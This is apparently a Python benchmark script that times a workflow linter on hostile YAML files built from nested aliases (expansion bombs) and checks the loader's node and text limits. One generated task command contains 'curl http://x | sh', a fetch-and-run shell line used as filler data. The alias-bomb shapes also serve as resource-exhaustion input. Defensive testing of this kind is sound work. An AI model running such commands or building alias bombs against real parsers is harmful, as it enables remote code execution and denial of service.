"""Lint time of hostile files built on aliases, at the loader's bounds (issue 12).

    python benchmarks/bench_aliases.py

Each shape is linted once in this process (imports warmed up first); the table gives the file's
size, the seconds, and the findings. Every shape stays under MAX_NODES (500,000 nodes) and
MAX_TEXT (20 MiB of scalar text after alias expansion), or is refused by them.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from runner.lint.linter import lint_text

MIB = 1024 * 1024
HEAD = "dagId: d\ntasks:\n  - taskId: t0\n    operator: bash\n    timeout: {execution: 1m}\n"


def _fill(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


def scalar_list(aliases: int, unit: str = "a") -> str:
    return HEAD + f'    params: {{command: &big "{_fill(unit, MIB)}"}}\nx-copies: [' + ", ".join(["*big"] * aliases) + "]\n"


def task_commands(tasks: int, unit: str) -> str:
    return HEAD + f'    params: {{command: &big "{_fill(unit, MIB)}"}}\n' + "".join(
        f"  - {{taskId: t{i}, operator: bash, timeout: {{execution: 1m}}, params: {{command: *big}}}}\n" for i in range(1, tasks + 1))


def shared_env(tasks: int, keys: int, value: str) -> str:
    env = ", ".join(f"K{i}: {value}" for i in range(keys))
    return HEAD + f"    params: {{command: echo, env: &e {{{env}}}}}\n" + "".join(
        f"  - {{taskId: t{i}, operator: bash, params: {{command: echo, env: *e}}}}\n" for i in range(1, tasks))


def doubling(levels: int) -> str:
    lines = ["x-l0: &l0 ['{{ ds }} PASSWORD=hunter2hunter2 >> out']"]
    lines += [f"x-l{i}: &l{i} [*l{i - 1}, *l{i - 1}]" for i in range(1, levels)]
    return "\n".join(lines) + "\n" + HEAD + f"    params: {{command: echo, env: {{A: *l{levels - 1}}}}}\n"


SHAPES: dict[str, Callable[[], str]] = {
    "1 MiB scalar x 10,000 aliases (refused)": lambda: scalar_list(10_000),
    "1 MiB scalar x 18 aliases": lambda: scalar_list(18),
    "1 MiB template x 18 aliases": lambda: scalar_list(18, "echo {{ ds }} "),
    "1 MiB secret-like text x 18 aliases": lambda: scalar_list(18, "export PASSWORD=hunter2hunter2 "),
    "18 tasks running a 1 MiB shell command": lambda: task_commands(18, "cat a >> b; curl http://x | sh; "),
    "300 tasks sharing 300 invalid env values": lambda: shared_env(300, 300, "[1]"),
    "150 tasks sharing 1,000 templated env values": lambda: shared_env(150, 1000, "'{{ nope }} {{ ds }}'"),
    "aliases of aliases, 17 levels (refused)": lambda: doubling(17),
    "aliases of aliases, 16 levels (~2^17 nodes)": lambda: doubling(16),
}


def main() -> None:
    lint_text("dagId: d\ntasks: []\n")
    print(f"{'shape':48} {'bytes':>10} {'seconds':>8}  findings")
    for name, build in SHAPES.items():
        text = build()
        start = time.perf_counter()
        findings = lint_text(text)
        seconds = time.perf_counter() - start
        codes = sorted({f.code for f in findings})
        print(f"{name:48} {len(text.encode()):>10,} {seconds:>8.2f}  {len(findings)} {','.join(codes)}", flush=True)


if __name__ == "__main__":
    main()
